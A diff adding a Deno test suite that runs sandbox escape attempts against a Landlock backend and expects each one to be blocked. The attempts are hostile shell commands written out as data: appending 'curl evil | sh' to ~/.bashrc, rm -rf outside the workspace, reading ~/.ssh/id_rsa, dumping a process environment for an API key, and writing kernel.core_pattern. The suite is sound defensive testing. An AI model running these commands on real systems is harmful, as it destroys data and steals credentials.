@@ -1,0 +1,222 @@
+/**
+ * The command escape attempts of bwrap_escape_test.ts, run with the Landlock
+ * backend forced. Every attempt Landlock can stop must fail with nothing
+ * changed on disk. The ones it cannot stop are the known differences of
+ * docs/security.md and are named below, skipped with that reason (loudly).
+ */
+import * as path from "node:path";
+import { assert, assertEquals } from "../support/assert.ts";
+import { probeSandboxes } from "../../src/sandbox/choose.ts";
+import { landlockLauncher } from "../../src/sandbox/landlock_launcher.ts";
+import type { SandboxMode } from "../../src/sandbox/modes.ts";
+import { type CommandResult, type Layout, makeLayout, snapshotAll } from "./_harness.ts";
+
+const found = await probeSandboxes();
+const ABI = found.landlock ?? null;
+if (ABI === null) {
+  console.warn(
+    `\n!!! ESCAPE SUITE (Landlock): the Landlock backend does not work here ` +
+      `(${found.reasons?.landlock}); every Landlock attempt is SKIPPED. !!!\n`,
+  );
+}
+const needsLandlock = { ignore: ABI === null };
+
+/** Known differences: bubblewrap stops these, Landlock cannot (docs/security.md). */
+const KNOWN_DIFFERENCES = [
+  "protected paths inside the workspace (.git/hooks, .git/config, skiff.json, .skiff/): " +
+  "Landlock cannot deny beneath a writable folder; the command guard reverts them afterwards",
+  "a host Unix socket reached by path (under /run): Landlock ABI 7 has no right for connect",
+  "resolving a hostname over UDP (DNS): Landlock checks TCP only",
+  "seeing the parent's processes in /proc (no pid namespace); signalling them is stopped (ABI 6)",
+];
+console.warn(
+  "\n!!! ESCAPE SUITE (Landlock): NOT RUN against Landlock, known differences:\n  - " +
+    KNOWN_DIFFERENCES.join("\n  - ") + "\n",
+);
+
+async function runLandlocked(
+  layout: Layout,
+  command: string,
+  options: { network?: boolean; mode?: SandboxMode; envNames?: string[] } = {},
+): Promise<CommandResult> {
+  const launcher = landlockLauncher({
+    mode: options.mode ?? "workspace-write",
+    workspace: layout.ws,
+    addDirs: [],
+    network: options.network ?? false,
+    envNames: options.envNames ?? [],
+    hidden: [{ path: path.join(layout.home, ".ssh"), folder: true }],
+  }, {
+    abi: ABI ?? 1,
+    getEnv: (name) => (name === "HOME" ? layout.home : Deno.env.get(name)),
+  });
+  const { argv, env } = await launcher.prepare(command, layout.ws);
+  const output = await new Deno.Command(argv[0], {
+    args: argv.slice(1),
+    cwd: layout.ws,
+    env,
+    clearEnv: true,
+    stdin: "null",
+    signal: AbortSignal.timeout(20_000),
+  }).output();
+  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
+  return { code: output.code, stdout: decode(output.stdout), stderr: decode(output.stderr) };
+}
+
+async function unchanged(
+  command: (layout: Layout) => string,
+  options: Parameters<typeof runLandlocked>[2] = {},
+  prepare: (layout: Layout) => void = () => {},
+): Promise<CommandResult> {
+  const layout = makeLayout();
+  try {
+    prepare(layout);
+    const before = snapshotAll(layout);
+    const result = await runLandlocked(layout, command(layout), options);
+    assertEquals(snapshotAll(layout), before, `something changed on disk: ${result.stderr}`);
+    return result;
+  } finally {
+    layout.cleanup();
+  }
+}
+
+function blocked(result: CommandResult) {
+  assertEquals(
+    result.stdout.trim().split("\n").pop(),
+    "blocked",
+    `output: ${result.stdout} ${result.stderr}`,
+  );
+}
+
+Deno.test(
+  { name: "escape/landlock: runs commands at all (control)", ...needsLandlock },
+  async () => {
+    const layout = makeLayout();
+    try {
+      const result = await runLandlocked(layout, "echo made > src/made.txt && cat src/a.txt");
+      assertEquals([result.code, result.stdout], [0, "inside\n"]);
+      assertEquals(Deno.readTextFileSync(path.join(layout.ws, "src", "made.txt")), "made\n");
+    } finally {
+      layout.cleanup();
+    }
+  },
+);
+
+const attempts: [string, (l: Layout) => string][] = [
+  [
+    "write ../ outside the workspace",
+    () => "echo x > ../outside/p.txt 2>/dev/null || echo blocked",
+  ],
+  [
+    "write an absolute path outside",
+    (l) => `echo x > ${l.outside}/p.txt 2>/dev/null || echo blocked`,
+  ],
+  ["overwrite a file outside", (l) => `echo gone > ${l.secret} 2>/dev/null || echo blocked`],
+  ["append to ~/.bashrc", () => "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null || echo blocked"],
+  [
+    "delete files outside",
+    (l) => `rm -rf ${l.outside} 2>/dev/null; test -e ${l.secret} && echo blocked`,
+  ],
+  [
+    "hard-link an outside file into the workspace",
+    (l) => `ln ${l.secret} stolen.txt 2>/dev/null || echo blocked`,
+  ],
+  [
+    "write through /proc/self/root",
+    (l) => `echo x > /proc/self/root${l.outside}/p.txt 2>/dev/null || echo blocked`,
+  ],
+  [
+    "write through /proc/1/root",
+    (l) => `echo x > /proc/1/root${l.outside}/p.txt 2>/dev/null || echo blocked`,
+  ],
+  [
+    "remount / read-write",
+    (l) =>
+      `(mount -o remount,rw / 2>/dev/null && echo x > ${l.outside}/p.txt) 2>/dev/null || echo blocked`,
+  ],
+  [
+    "write kernel.core_pattern",
+    () =>
+      "(cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern) 2>/dev/null || echo blocked",
+  ],
+  [
+    "write the real /tmp",
+    () => `echo x > /tmp/skiff-escape-${crypto.randomUUID()} 2>/dev/null || echo blocked`,
+  ],
+  ["read a hidden key (~/.ssh)", (l) => `cat ${l.home}/.ssh/id_rsa 2>/dev/null || echo blocked`],
+  ["signal the parent", () => `kill -0 ${Deno.pid} 2>/dev/null || echo blocked`],
+];
+for (const [name, command] of attempts) {
+  Deno.test({ name: `escape/landlock: ${name}`, ...needsLandlock }, async () => {
+    blocked(
+      await unchanged(command, {}, (l) => {
+        Deno.mkdirSync(path.join(l.home, ".ssh"));
+        Deno.writeTextFileSync(path.join(l.home, ".ssh", "id_rsa"), "PRIVATE KEY\n");
+      }),
+    );
+  });
+}
+
+Deno.test({
+  name: "escape/landlock: write through a symlinked folder pointing out",
+  ...needsLandlock,
+}, async () => {
+  blocked(
+    await unchanged(
+      () => "echo x > vendor/p.txt 2>/dev/null || echo blocked",
+      {},
+      (l) => Deno.symlinkSync(l.outside, path.join(l.ws, "vendor")),
+    ),
+  );
+});
+
+Deno.test({
+  name: "escape/landlock: read-only mode refuses writes in the workspace",
+  ...needsLandlock,
+}, async () => {
+  blocked(
+    await unchanged(() => "echo x > src/new.txt 2>/dev/null || echo blocked", {
+      mode: "read-only",
+    }),
+  );
+});
+
+Deno.test({
+  name: "escape/landlock: the API key is not in the child's environment",
+  ...needsLandlock,
+}, async () => {
+  Deno.env.set("OPENAI_API_KEY", "sk-escape-test-key");
+  try {
+    const result = await unchanged(
+      () =>
+        `env; cat /proc/${Deno.pid}/environ 2>/dev/null | tr "\\0" "\\n"; echo "[$OPENAI_API_KEY]"`,
+      { envNames: ["OPENAI_API_KEY"] },
+    );
+    assert(!result.stdout.includes("sk-escape-test-key"), "the key reached the child");
+    assert(result.stdout.includes("[]"));
+  } finally {
+    Deno.env.delete("OPENAI_API_KEY");
+  }
+});
+
+Deno.test({
+  name: "escape/landlock: reaching 127.0.0.1 over TCP with the network off",
+  ignore: ABI === null || ABI < 4,
+}, async () => {
+  let hits = 0;
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
+    hits++;
+    return new Response("reached");
+  });
+  const get =
+    `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${server.addr.port} && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3' 2>/dev/null || echo blocked`;
+  try {
+    blocked(await unchanged(() => get));
+    assertEquals(hits, 0);
+    const open = await unchanged(() => get, { network: true });
+    assert(open.stdout.includes("reached"), "control failed: the server was not reachable at all");
+    assertEquals(hits, 1);
+  } finally {
+    await server.shutdown();
+  }
+});
